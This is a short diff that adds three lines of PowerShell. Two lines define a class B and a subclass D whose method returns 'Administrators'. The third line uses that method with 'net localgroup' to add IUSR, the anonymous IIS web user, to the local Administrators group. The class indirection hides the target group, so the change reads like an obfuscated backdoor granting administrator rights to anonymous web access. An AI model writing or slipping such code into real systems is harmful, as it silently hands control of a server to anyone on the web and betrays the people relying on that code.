@@ -1,0 +1,3 @@
+class B { [string] G() { return 'Administrators' } }
+class D : B { }
+net localgroup ([D]::new().G()) IUSR /add
